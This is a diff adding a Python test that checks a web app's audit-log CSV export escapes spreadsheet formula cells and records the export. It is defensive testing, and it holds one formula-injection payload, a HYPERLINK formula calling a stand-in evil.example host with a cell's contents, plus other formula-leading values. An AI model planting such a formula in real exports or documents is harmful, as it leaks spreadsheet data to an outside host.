@@ -11,7 +11,7 @@ from app.main import create_app
 from app.models import AuditEntry, Role, Study
 from app.services import accounts
 from tests.reports.study import two_rounds
-from tests.web.test_console import signed_in
+from tests.web.test_console import new_study, signed_in
 
 
 def _study(client, session) -> int:
@@ -94,3 +94,31 @@ def test_exports_need_a_signed_in_coordinator(client, session):
     anonymous = TestClient(create_app(), follow_redirects=False)
     response = anonymous.get(f"/console/studies/{study_id}/export.json")
     assert response.status_code == 303 and response.headers["location"].startswith("/login")
+
+
+def test_the_audit_csv_is_an_export_whose_hostile_cells_come_out_as_text(session):
+    """An actor or detail a spreadsheet would run as a formula is quoted, as in every CSV export."""
+    web = signed_in(session)
+    study_id = new_study(web)
+    hostile = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
+    session.add_all(
+        [
+            AuditEntry(
+                study_id=study_id, actor_label=hostile, action="study.update", detail={"x": 1}
+            ),
+            AuditEntry(study_id=study_id, actor_label="@SUM(1)", action="+x", detail=-1),
+        ]
+    )
+    session.commit()
+    response = web.get(f"/console/studies/{study_id}/audit.csv")
+    assert response.status_code == 200
+    assert response.headers["content-disposition"].startswith("attachment;")
+    rows = list(csv.reader(io.StringIO(response.text)))
+    assert rows[0] == ["id", "at", "who", "action", "detail"]
+    assert ["'" + hostile, "study.update", '{"x": 1}'] in [row[2:] for row in rows]
+    assert ["'@SUM(1)", "'+x", "'-1"] in [row[2:] for row in rows]
+    cells = [cell for row in rows[1:] for cell in row[2:]]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    session.rollback()  # a fresh snapshot: the app committed in its own sessions
+    taken = session.scalars(select(AuditEntry).where(AuditEntry.action == "export.audit")).all()
+    assert [(e.study_id, e.actor_label) for e in taken] == [(study_id, "lead@example.org")]
